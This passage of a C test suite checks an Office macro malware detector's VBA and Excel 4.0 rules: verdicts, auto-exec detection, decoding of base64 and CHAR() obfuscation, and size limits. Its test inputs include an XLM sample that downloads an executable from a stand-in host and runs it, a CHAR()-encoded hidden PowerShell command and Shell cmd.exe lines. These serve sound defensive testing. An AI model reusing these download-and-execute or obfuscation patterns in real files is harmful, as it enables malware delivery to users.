		g_assert_cmpint (reached->vba_verdict, ==, dangerous ? MH_VERDICT_MALICIOUS : MH_VERDICT_SUSPICIOUS);

		/* in a comment: nothing */
		g_autofree char *commented = g_strdup_printf ("Sub T()\n  ' %s\nEnd Sub\n", code);
		g_autoptr (mh_document) comment = analyse_source (commented);
		g_assert_null (find_finding (comment, rule->finding_id, NULL));
	}
	if (rule->where == MH_KEYWORD_IN_CODE && rule->single_word && strcmp (rule->capability, "obfuscation") != 0) {
		/* only inside a string: said, not counted */
		g_autofree char *source = g_strdup_printf ("Sub T()\n  MsgBox \"use %s here\"\nEnd Sub\n", rule->keyword);
		g_autoptr (mh_document) doc = analyse_source (source);
		dump (doc);
		g_assert_nonnull (find_finding (doc, "vba.string-keyword", rule->keyword));
		g_assert_null (find_finding (doc, rule->finding_id, NULL));
		g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_MACROS);
	}
	if (rule->where & MH_KEYWORD_IN_STRING) {
		g_autofree char *source = g_strdup_printf ("Sub T()\n  s = \"%s x\"\nEnd Sub\n", rule->keyword);
		g_autoptr (mh_document) doc = analyse_source (source);
		dump (doc);
		const mh_finding *f = find_finding (doc, rule->finding_id, rule->keyword);
		g_assert_nonnull (f);
		g_assert_cmpint (f->severity, ==, rule->severity);
		g_assert_cmpint (doc->vba_verdict, ==, dangerous ? MH_VERDICT_SUSPICIOUS : MH_VERDICT_MACROS);

		/* and the same text hidden in base64 */
		g_autofree char *plain = g_strdup_printf ("%s and some more text", rule->keyword);
		g_autofree char *b64 = g_base64_encode ((const guchar *) plain, strlen (plain));
		g_autofree char *hidden = g_strdup_printf ("Sub T()\n  s = \"%s\"\nEnd Sub\n", b64);
		g_autoptr (mh_document) decoded = analyse_source (hidden);
		dump (decoded);
		f = find_finding (decoded, rule->finding_id, rule->keyword);
		g_assert_nonnull (f);
		g_assert_cmpstr (f->decoding, ==, "base64");
	}
}

static void
test_xlm_row (gconstpointer data)
{
	const mh_keyword_rule *rule = data;
	g_autofree char *formula = (rule->where & MH_KEYWORD_IN_CODE)
		? g_strdup_printf ("=%s(\"x\")", rule->keyword)
		: g_strdup_printf ("=\"%s x\"", rule->keyword);
	g_autoptr (mh_document) doc = analyse_xlm (formula);
	g_test_message ("formula: %s", formula);
	dump (doc);
	const mh_finding *f = find_finding (doc, rule->finding_id, rule->keyword);
	g_assert_nonnull (f);
	g_assert_cmpint (f->severity, ==, rule->severity);
	g_assert_cmpstr (f->location, ==, "Macro1!A1");
	g_assert_cmpstr (f->summary, ==, rule->description);
	if (rule->where & MH_KEYWORD_IN_CODE) {
		/* a function name inside a string is no call */
		g_autofree char *quoted = g_strdup_printf ("=\"%s(1)\"", rule->keyword);
		g_autoptr (mh_document) q = analyse_xlm (quoted);
		g_assert_null (find_finding (q, rule->finding_id, rule->keyword));
	}
}

/* -- Excel 4.0 macros ----------------------------------------------------------------- */

static void
test_xlm (void)
{
	g_autoptr (mh_document) doc = analyse_xlm (
		"=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x.invalid/p.exe\",\"c:\\Users\\Public\\p.exe\",0,0)\n"
		"=EXEC(\"c:\\Users\\Public\\p.exe\")\n"
		"=ALERT(\"The workbook cannot be opened\")\n"
		"=HALT()\n");
	dump (doc);
	g_assert_nonnull (find_finding (doc, "xlm.download", "URLDownloadToFileA"));
	g_assert_nonnull (find_finding (doc, "xlm.download", "urlmon"));
	g_assert_nonnull (find_finding (doc, "xlm.execute", "CALL"));
	g_assert_nonnull (find_finding (doc, "xlm.execute", "EXEC"));
	const mh_finding *alert = find_finding (doc, "xlm.obfuscation", "ALERT");
	g_assert_nonnull (alert);
	g_assert_cmpint (alert->severity, ==, MH_SEVERITY_INFO);
	g_assert_nonnull (find_ioc (doc, "url", "http://x.invalid/p.exe"));
	g_assert_nonnull (find_ioc (doc, "executable", "p.exe"));
	/* XLM leaves the verdict to document.c (it knows about Auto_Open) */
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_CLEAN);

	/* CHAR() codes, function names with dots, and apostrophes that are no comments */
	g_autofree char *chars = NULL;
	{
		GString *s = g_string_new ("=FORMULA(");
		const char *text = "powershell -w hidden";
		for (const char *p = text; *p; p++)
			g_string_append_printf (s, "%sCHAR(%d)", p == text ? "" : "&", (guchar) *p);
		g_string_append (s, ",'Sheet 1'!A2)\n=GET.WORKSPACE(1)\n=_xlfn.FORMULA.FILL(\"x\",A1)");
		chars = g_string_free (s, FALSE);
	}
	g_autoptr (mh_document) obf = analyse_xlm (chars);
	dump (obf);
	const mh_finding *f = find_finding (obf, "xlm.powershell", "powershell");
	g_assert_nonnull (f);
	g_assert_cmpstr (f->decoding, ==, "CHAR() codes");
	g_assert_nonnull (find_finding (obf, "xlm.powershell", "-w hidden"));
	g_assert_nonnull (find_finding (obf, "xlm.obfuscation", "GET.WORKSPACE"));
	g_assert_nonnull (find_finding (obf, "xlm.obfuscation", "FORMULA.FILL"));
	g_assert_nonnull (find_finding (obf, "xlm.obfuscation", "FORMULA"));
	g_assert_nonnull (find_finding (obf, "xlm.obfuscation", "CHAR"));
	g_assert_nonnull (find_finding (obf, "xlm.obfuscation", "powershell -w hidden"));
}

/* -- hostile sizes ------------------------------------------------------------------------ */

/* 1 MB on one logical line of "a" & "a" & ...: every pass over a line is
 * linear, so this is quick (not timed here; the ASan build runs it too). */
static void
test_huge_line (void)
{
	GString *s = g_string_new ("Sub T()\n  x = \"a\"");
	while (s->len < (1u << 20))
		g_string_append (s, " & \"a\"");
	g_string_append (s, "\nEnd Sub\n");
	g_autoptr (mh_document) doc = analyse_source (s->str);
	g_string_free (s, TRUE);
	dump (doc);
	g_assert_nonnull (find_finding_with (doc, "vba.obfuscation", "pieces joined with &"));
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_MACROS);

	/* many short lines full of keywords: findings stay capped */
	GString *many = g_string_new (NULL);
	for (guint i = 0; i < 20000; i++)
		g_string_append_printf (many, "Sub P%u()\n  Shell \"cmd.exe /c x%u.exe\"\nEnd Sub\n", i, i);
	g_autoptr (mh_document) lots = analyse_source (many->str);
	g_string_free (many, TRUE);
	g_assert_cmpuint (lots->findings->len, <=, 500);
	g_assert_cmpuint (lots->problems->len, >, 0);
	g_assert_cmpint (lots->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);

	/* more procedures than the cap: said, and still read */
	GString *procs = g_string_new (NULL);
	for (guint i = 0; i < 70000; i++)
		g_string_append_printf (procs, "Sub P%u()\n  x = P%u\nEnd Sub\n", i, i + 1);
	g_string_append (procs, "Sub AutoOpen()\n  P0\nEnd Sub\nSub Last()\n  Shell y\nEnd Sub\n");
	g_autoptr (mh_document) capped = analyse_source (procs->str);
	g_string_free (procs, TRUE);
	gboolean said = FALSE;
	for (guint i = 0; i < capped->problems->len; i++)
		said = said || strstr (g_ptr_array_index (capped->problems, i), "procedures in one VBA project");
	g_assert_true (said);
	g_assert_nonnull (find_finding (capped, "vba.execute", "Shell"));

	/* a line of nothing but Chr(n): the built string is decoded once */
	GString *chr = g_string_new ("Sub T()\n  x = Chr(65)");
	while (chr->len < (1u << 20))
		g_string_append (chr, " & Chr(65)");
	g_string_append (chr, "\nEnd Sub\n");
	g_autoptr (mh_document) chrs = analyse_source (chr->str);
	g_string_free (chr, TRUE);
	g_assert_nonnull (find_finding_with (chrs, "vba.obfuscation", "AAAA"));

	/* "Open" many times without "For Output": the pattern search gives up once */
	GString *open = g_string_new ("Sub T()\n  x = Open");
	while (open->len < (1u << 20))
		g_string_append (open, " Open");
	g_string_append (open, "\nEnd Sub\n");
	g_autoptr (mh_document) opens = analyse_source (open->str);
	g_string_free (open, TRUE);
	g_assert_null (find_finding (opens, "vba.write-file", NULL));
}

static void
test_odd_input (void)
{
	/* unterminated string, lone quotes, NUL bytes, a NULL source */
	static const char *const odd[] = {
		"\"", "Sub", "Sub T(", "End Sub", "_\n_\n_", "'\n'", "x = \"abc", "Rem", "Declare", "Declare Function",
		"&H", "&HFFFFFFFFFFFFFFFFFFFF", "Chr(", "Chr(99999999999)", "Chr(-1) & Chr(0) & Chr(55296)",
		"StrReverse(\"", "\xff\xfe\x00", "Run", "CallByName(", "Application.Run (", "::::", "Sub \xc3\xa9()\nEnd Sub",
	};
	for (guint i = 0; i < G_N_ELEMENTS (odd); i++) {
		g_autoptr (mh_document) doc = analyse_source (odd[i]);
		for (guint k = 0; k < doc->findings->len; k++) {
			const mh_finding *f = g_ptr_array_index (doc->findings, k);
			g_assert_true (g_utf8_validate (f->summary, -1, NULL));
			g_assert_true (!f->evidence || g_utf8_validate (f->evidence, -1, NULL));
		}
	}
	mh_office_options options;
	mh_office_options_init_default (&options);
	g_autoptr (mh_document) doc = document_new (FALSE);
	mh_vba_project *p = project_new ();
	project_add (p, "Module1", "standard", "");
	g_clear_pointer (&((mh_vba_module *) g_ptr_array_index (p->modules, 0))->source, g_free);
	g_ptr_array_add (doc->vba_projects, p);
	_mh_vba_rules_apply (doc, &options);
	g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_CLEAN);
	_mh_xlm_rules_apply (doc, NULL, 0, NULL, &options);
}

static void
test_stomping (void)
{
	mh_vba_project *p = project_new ();
	project_add (p, "Module1", "standard", "Sub T()\nEnd Sub\n");
	p->stomped = TRUE;
	p->stomping_evidence = g_strdup ("Module1: p-code names Shell, source does not");
	g_autoptr (mh_document) doc = analyse_project (p, FALSE);
	const mh_finding *f = find_finding (doc, "vba.stomping", NULL);
	g_assert_nonnull (f);
	g_assert_cmpstr (f->location, ==, "Macros");
}

/* -- the corpora ----------------------------------------------------------------------------- */

/* The expected sources in the corpora (POI's SimpleMacro.vba) read as a
 * module: plain macros, no auto-exec. */
static void
test_corpus_sources (void)
{
	const char *corpora = g_getenv ("MH_CORPORA");
	if (!corpora || !g_file_test (corpora, G_FILE_TEST_IS_DIR)) {
		g_test_skip ("MH_CORPORA not set");
		return;
	}
	static const char *const files[] = {
		"poi/test-data/document/SimpleMacro.vba",
		"poi/test-data/spreadsheet/SimpleMacro.vba",
	};
	for (guint i = 0; i < G_N_ELEMENTS (files); i++) {
		g_autofree char *path = g_build_filename (corpora, files[i], NULL);
		g_autofree char *text = NULL;
		gsize len;
		if (!g_file_get_contents (path, &text, &len, NULL)) {
			g_test_skip ("corpus file missing");
			return;
		}
		/* POI's expected text lacks the first line */
		g_autofree char *source = g_strdup_printf ("Sub TestMacro()\n%s\nEnd Sub\n", text);
		g_autoptr (mh_document) doc = analyse_source (source);
		dump (doc);
		g_assert_cmpint (doc->vba_verdict, ==, MH_VERDICT_MACROS);
		g_assert_null (find_finding (doc, "vba.autoexec", NULL));
	}
}

/* Real documents through the VBA reader when it is ready (its project
 * read from the OLE storage directly, so only vba.c is needed). */
static mh_document *
corpus_document (const char *corpora, const char *file, const char *storage_name)
{
	g_autofree char *path = g_build_filename (corpora, file, NULL);
	g_autoptr (GError) error = NULL;
	g_autoptr (GsfInput) input = GSF_INPUT (gsf_input_stdio_new (path, &error));
	if (!input)
		return NULL;
	g_autoptr (GsfInfile) ole = gsf_infile_msole_new (input, &error);
	if (!ole)
		return NULL;
	g_autoptr (GsfInput) child = gsf_infile_child_by_name (ole, storage_name);
	if (!child || !GSF_IS_INFILE (child))
		return NULL;
	mh_office_options options;
	mh_office_options_init_default (&options);
	mh_vba_project *project = _mh_vba_project_read (GSF_INFILE (child), storage_name, &options.limits);
	if (project->modules->len == 0) {
		_mh_vba_project_free (project);
		return NULL;
	}
	mh_document *doc = document_new (FALSE);
	g_ptr_array_add (doc->vba_projects, project);
	_mh_vba_rules_apply (doc, &options);
	return doc;
}

static void
test_corpus_documents (void)
{
	const char *corpora = g_getenv ("MH_CORPORA");
	if (!corpora || !g_file_test (corpora, G_FILE_TEST_IS_DIR)) {
		g_test_skip ("MH_CORPORA not set");
		return;
	}
	/* MANIFEST: 15228.xls, Module1 'Sub auto_open()' using CreateObject("Microsoft.XMLDOM") */
	g_autoptr (mh_document) auto_open = corpus_document (corpora, "poi/test-data/spreadsheet/15228.xls",
	                                                     "_VBA_PROJECT_CUR");
	if (!auto_open) {
		g_test_skip ("the VBA reader (vba.c) is not ready");
		return;
	}
	dump (auto_open);
	g_assert_nonnull (find_finding (auto_open, "vba.autoexec", "auto_open"));
	g_assert_nonnull (find_finding_with (auto_open, "vba.execute", "Microsoft.XMLDOM"));
	g_assert_cmpint (auto_open->vba_verdict, >=, MH_VERDICT_SUSPICIOUS);

	/* 39234.xls: ThisWorkbook has Private Sub Workbook_Open() */
	g_autoptr (mh_document) wb = corpus_document (corpora, "poi/test-data/spreadsheet/39234.xls", "_VBA_PROJECT_CUR");
	g_assert_nonnull (wb);
	g_assert_nonnull (find_finding (wb, "vba.autoexec", "Workbook_Open"));

	/* SimpleMacro.xls: Sub TestMacro, no auto-exec: plain macros */
	g_autoptr (mh_document) simple = corpus_document (corpora, "poi/test-data/spreadsheet/SimpleMacro.xls",
	                                                  "_VBA_PROJECT_CUR");
	g_assert_nonnull (simple);
	g_assert_null (find_finding (simple, "vba.autoexec", NULL));
	g_assert_cmpint (simple->vba_verdict, ==, MH_VERDICT_MACROS);

	/* oletools' encrypted workbook: the VBA storage is not encrypted;
	 * Modul1 has Sub Auto_Open() MsgBox "Hello World" */
	g_autoptr (mh_document) enc = corpus_document (
		corpora, "oletools/tests/test-data/encrypted/autostart-encrypt-standardpassword.xls", "_VBA_PROJECT_CUR");
	g_assert_nonnull (enc);
	g_assert_nonnull (find_finding (enc, "vba.autoexec", "Auto_Open"));
	g_assert_cmpint (enc->vba_verdict, ==, MH_VERDICT_SUSPICIOUS);
}

/* The project of an OLE2 file: Word's Macros, Excel's _VBA_PROJECT_CUR,
 * or the root of a bare vbaProject.bin. */
static mh_vba_project *
project_in_ole (GsfInfile *ole, const mh_office_limits *limits)
{
	static const char *const storages[] = { "Macros", "_VBA_PROJECT_CUR" };
	for (guint i = 0; i < G_N_ELEMENTS (storages); i++) {
		g_autoptr (GsfInput) child = gsf_infile_child_by_name (ole, storages[i]);
		if (child && GSF_IS_INFILE (child))
			return _mh_vba_project_read (GSF_INFILE (child), storages[i], limits);
	}
	g_autoptr (GsfInput) vba = gsf_infile_child_by_name (ole, "VBA");
	if (vba)
		return _mh_vba_project_read (ole, "vbaProject.bin", limits);
	return NULL;
}

static mh_vba_project *
project_in_file (const char *path, const mh_office_limits *limits)
{
	g_autoptr (GError) error = NULL;
	g_autoptr (GsfInput) input = GSF_INPUT (gsf_input_stdio_new (path, &error));
	if (!input)
		return NULL;
	g_autoptr (GsfInfile) ole = gsf_infile_msole_new (input, NULL);
	if (ole)
		return project_in_ole (ole, limits);
	gsf_input_seek (input, 0, G_SEEK_SET);
	g_autoptr (GsfInfile) zip = gsf_infile_zip_new (input, NULL);
	if (!zip)
		return NULL;
	static const char *const parts[] = { "word", "xl", "ppt" };
	for (guint i = 0; i < G_N_ELEMENTS (parts); i++) {
		g_autoptr (GsfInput) dir = gsf_infile_child_by_name (zip, parts[i]);
		if (!dir || !GSF_IS_INFILE (dir))
			continue;
		g_autoptr (GsfInput) bin = gsf_infile_child_by_name (GSF_INFILE (dir), "vbaProject.bin");
		if (!bin)
			continue;
		/* libgsf's OLE reader seeks, which ZIP members do badly: read it whole */
		g_autoptr (GBytes) bytes = _mh_gsf_read_all (bin, limits->max_stream_size, NULL);
		g_autoptr (GsfInput) memory = gsf_input_memory_new (g_bytes_get_data (bytes, NULL),
		                                                    (gsf_off_t) g_bytes_get_size (bytes), FALSE);
		g_autoptr (GsfInfile) inner = gsf_infile_msole_new (memory, NULL);
		if (inner)
			return project_in_ole (inner, limits);
	}
	return NULL;
}

/* Every VBA document of the corpora (MANIFEST.tsv kinds *-vba*, and bare
 * vbaProject.bin): auto-exec where the manifest says so and only there;
 * none of these public test files is malicious. */
static void
test_corpus_manifest (void)
{
	const char *corpora = g_getenv ("MH_CORPORA");
	if (!corpora || !g_file_test (corpora, G_FILE_TEST_IS_DIR)) {
		g_test_skip ("MH_CORPORA not set");
		return;
	}
	g_autofree char *manifest_path = g_build_filename (corpora, "MANIFEST.tsv", NULL);
	g_autofree char *manifest = NULL;
	if (!g_file_get_contents (manifest_path, &manifest, NULL, NULL)) {
		g_test_skip ("no MANIFEST.tsv");
		return;
	}
	mh_office_options options;
	mh_office_options_init_default (&options);
	g_auto (GStrv) lines = g_strsplit (manifest, "\n", -1);
	guint checked = 0;
	for (guint i = 0; lines[i]; i++) {
		g_auto (GStrv) c = g_strsplit (lines[i], "\t", -1);
		if (g_strv_length (c) < 8 || !(g_str_has_suffix (c[5], "-vba") || strstr (c[5], "-vba-") ||
		                               strcmp (c[5], "vbaproject-bin") == 0))
			continue;
		g_autofree char *path = g_build_filename (corpora, c[7], NULL);
		mh_vba_project *project = project_in_file (path, &options.limits);
		if (!project || project->modules->len == 0) {
			if (project)
				_mh_vba_project_free (project);
			g_test_message ("%s: no project read", c[7]);
			continue;
		}
		g_autoptr (mh_document) doc = document_new (strstr (c[5], "forms") != NULL);
		g_ptr_array_add (doc->vba_projects, project);
		_mh_vba_rules_apply (doc, &options);
		g_test_message ("%s: %s", c[7], mh_verdict_to_string (doc->vba_verdict));
		dump (doc);

		gboolean fires = FALSE;
		for (guint k = 0; k < doc->findings->len; k++) {
			const mh_finding *f = g_ptr_array_index (doc->findings, k);
			g_assert_true (g_utf8_validate (f->summary, -1, NULL));
			fires = fires || (strcmp (f->id, "vba.autoexec") == 0 && f->severity == MH_SEVERITY_MEDIUM);
		}
		if (strstr (c[5], "autoexec"))
			g_assert_true (fires);
		if (strstr (c[6], "no auto-exec"))
			g_assert_false (fires);
		g_assert_cmpint (doc->vba_verdict, !=, MH_VERDICT_MALICIOUS);
		checked++;
	}
	g_test_message ("%u corpus documents checked", checked);
	g_assert_cmpuint (checked, >=, 15);
}

int
main (int argc, char **argv)
{
	g_test_init (&argc, &argv, NULL);

	g_test_add_func ("/vba-rules/verdict/autoexec-reaches-execute", test_autoexec_reaches_execute);
	g_test_add_func ("/vba-rules/verdict/dangerous-code-not-called", test_dangerous_code_not_called);
	g_test_add_func ("/vba-rules/verdict/dangerous-code-without-autoexec", test_dangerous_code_without_autoexec);
	g_test_add_func ("/vba-rules/verdict/autoexec-alone", test_autoexec_alone);
	g_test_add_func ("/vba-rules/verdict/macros-and-clean", test_plain_macros_and_clean);
	g_test_add_func ("/vba-rules/calls/graph", test_call_graph);
	g_test_add_func ("/vba-rules/calls/declare", test_declare);
	g_test_add_func ("/vba-rules/lexer/comments", test_comments);
	g_test_add_func ("/vba-rules/lexer/string-keyword", test_string_keyword);
	g_test_add_func ("/vba-rules/lexer/continuation", test_continuation);
	g_test_add_func ("/vba-rules/lexer/header-is-not-use", test_header_is_not_use);
	g_test_add_func ("/vba-rules/autoexec/control-events", test_control_events);
	g_test_add_func ("/vba-rules/autoexec/word-module-main", test_word_module_main);
	g_test_add_func ("/vba-rules/decode/powershell-encoded", test_powershell_encoded);
	g_test_add_func ("/vba-rules/decode/chr-url", test_chr_url);
	g_test_add_func ("/vba-rules/decode/hex-and-base64", test_hex_and_base64);
	g_test_add_func ("/vba-rules/decode/rounds-cap", test_decode_rounds_cap);
	g_test_add_func ("/vba-rules/iocs", test_iocs);
	g_test_add_func ("/vba-rules/xlm", test_xlm);
	g_test_add_func ("/vba-rules/hostile/huge-line", test_huge_line);
	g_test_add_func ("/vba-rules/hostile/odd-input", test_odd_input);
	g_test_add_func ("/vba-rules/stomping", test_stomping);
	g_test_add_func ("/vba-rules/corpus/sources", test_corpus_sources);
	g_test_add_func ("/vba-rules/corpus/documents", test_corpus_documents);
	g_test_add_func ("/vba-rules/corpus/manifest", test_corpus_manifest);

	const mh_rule_tables *t = _mh_rule_tables ();
	g_test_add_func ("/vba-rules/tables/read", test_tables_read);
	for (guint i = 0; i < t->autoexec->len; i++) {
		const mh_autoexec_rule *rule = g_ptr_array_index (t->autoexec, i);
		g_autofree char *path = g_strdup_printf ("/vba-rules/tables/autoexec/%02u-%s", i, rule->name);
		g_test_add_data_func (path, rule, test_autoexec_row);
	}
	for (guint i = 0; i < t->suspicious->len; i++) {
		const mh_keyword_rule *rule = g_ptr_array_index (t->suspicious, i);
		g_autofree char *path = g_strdup_printf ("/vba-rules/tables/suspicious/%03u", i);
		g_test_add_data_func (path, rule, test_suspicious_row);
	}
	for (guint i = 0; i < t->xlm->len; i++) {
		const mh_keyword_rule *rule = g_ptr_array_index (t->xlm, i);
		g_autofree char *path = g_strdup_printf ("/vba-rules/tables/xlm/%02u-%s", i, rule->keyword);
		g_test_add_data_func (path, rule, test_xlm_row);
	}
	return g_test_run ();
}
